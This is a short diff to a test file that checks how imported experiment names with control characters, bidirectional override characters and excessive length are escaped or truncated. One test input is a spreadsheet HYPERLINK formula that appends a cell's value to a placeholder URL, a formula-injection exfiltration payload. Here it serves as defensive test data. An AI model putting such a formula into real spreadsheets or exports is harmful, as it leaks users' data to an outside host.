@@ -316,6 +316,7 @@ describe('what cannot be imported', () => {
       ['ctl\u0001\b\ufffe', 'ctl␁␈\\u{fffe}'],
       ['=HYPERLINK("http://a/?"&A1)\nx', '=HYPERLINK("http://a/?"&A1)␊x'],
       ['\u202eabc', '\\u{202e}abc'],
+      ['x'.repeat(2_000), `${'x'.repeat(79)}…`],
     ]) {
       const document = JSON.parse(json);
       document.experiments[0].name = name;
